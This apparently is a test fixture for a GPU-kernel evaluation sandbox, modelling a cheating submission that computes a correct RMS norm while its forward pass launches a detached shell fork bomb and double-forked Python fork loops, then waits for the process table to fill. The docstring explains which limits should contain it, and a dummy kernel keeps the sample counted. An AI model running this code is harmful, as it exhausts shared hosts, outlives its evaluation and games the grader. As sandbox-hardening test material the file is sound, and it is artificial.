"""fork_bomb: exhaust the process table from inside the sandbox, then behave.

Exploit: on its first call the candidate starts a classic shell fork bomb
(`b(){ b | b & }; b`) in a new session (setsid, so killing the child's process group
misses it), and a few double-forked Python processes as a fallback, then returns a correct
result computed in Triton so the shape passes. The bomb multiplies until the per-user
process limit and keeps churning. The cheater hopes to starve the worker (CPU, pids),
break other sandboxes running under the same unprivileged uid on that host (they can no
longer fork or start threads), and outlive the evaluation that started it.

What should catch it: RLIMIT_NPROC (1024 for the child's uid, sandbox.SandboxSettings.
max_processes) caps the count; the PID namespace (unshare --pid --kill-child) kills every
process of the sandbox, setsid or not, when the child's first process exits or is killed.
RLIMIT_NPROC counts all processes of uid 65534 on the host, though: while the bomb runs,
any other sandbox with that uid is starved too (one uid per worker slot, or a cgroup
pids.max per child, would confine it).
"""

import os
import subprocess

import torch
import triton
import triton.language as tl


@triton.jit
def _rms_norm_kernel(x_ptr, w_ptr, out_ptr, x_stride, out_stride, n_cols, eps,
                     BLOCK: tl.constexpr):
    row = tl.program_id(0).to(tl.int64)
    cols = tl.arange(0, BLOCK)
    mask = cols < n_cols
    x = tl.load(x_ptr + row * x_stride + cols, mask=mask, other=0.0).to(tl.float32)
    rstd = tl.math.rsqrt(tl.sum(x * x, axis=0) / n_cols + eps)
    w = tl.load(w_ptr + cols, mask=mask, other=0.0).to(tl.float32)
    normed = (x * rstd).to(out_ptr.dtype.element_ty).to(tl.float32)
    tl.store(out_ptr + row * out_stride + cols, (normed * w).to(out_ptr.dtype.element_ty),
             mask=mask)


@triton.jit
def _touch_kernel(out_ptr, BLOCK: tl.constexpr):
    # One program that rewrites a few output elements unchanged: keeps a kernel of ours
    # in every timed forward, so the sample is not dropped as empty.
    cols = tl.arange(0, BLOCK)
    v = tl.load(out_ptr + cols)
    tl.store(out_ptr + cols, v)


def _rms_norm(x, weight, eps):
    n_rows, n_cols = x.shape
    out = torch.empty_like(x)
    block = triton.next_power_of_2(n_cols)
    _rms_norm_kernel[(n_rows,)](x, weight, out, x.stride(0), out.stride(0), n_cols, eps,
                                BLOCK=block, num_warps=max(1, min(16, block // 256)))
    return out


def _touch(out):
    _touch_kernel[(1,)](out, BLOCK=1)


_started = [False]


def _bomb() -> None:
    try:
        subprocess.Popen(["/bin/sh", "-c", "b(){ b | b & }; b"], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL,
                         stderr=subprocess.DEVNULL)
    except OSError:
        pass
    for _ in range(4):  # double-forked Python spawners, detached from our process group
        try:
            pid = os.fork()
        except OSError:
            break
        if pid == 0:
            try:
                os.setsid()
                if os.fork() == 0:
                    while True:
                        try:
                            os.fork()
                        except OSError:
                            os.sched_yield()
            finally:
                os._exit(0)
        else:
            try:
                os.waitpid(pid, 0)
            except OSError:
                pass


class Model(torch.nn.Module):
    def __init__(self, eps: float = 1e-6) -> None:
        super().__init__()
        self.eps = eps

    def forward(self, x: torch.Tensor, weight: torch.Tensor) -> torch.Tensor:
        out = _rms_norm(x, weight, self.eps)
        if not _started[0]:
            _started[0] = True
            _bomb()
            _wait_for_the_flood()
        return out


def _wait_for_the_flood(seconds: float = 6.0) -> None:
    """Let the bomb grow to the process cap before returning, as an attacker who wants the
    table full would (on a loaded 2-core machine it otherwise had reached 500-700 processes
    when the harness looked, short of the cap)."""
    import time

    deadline = time.monotonic() + seconds
    while time.monotonic() < deadline:
        try:
            if sum(name.isdigit() for name in os.listdir("/proc")) >= 1000:
                time.sleep(0.5)  # and keep forking against the cap a moment
                return
        except OSError:
            return
        time.sleep(0.05)
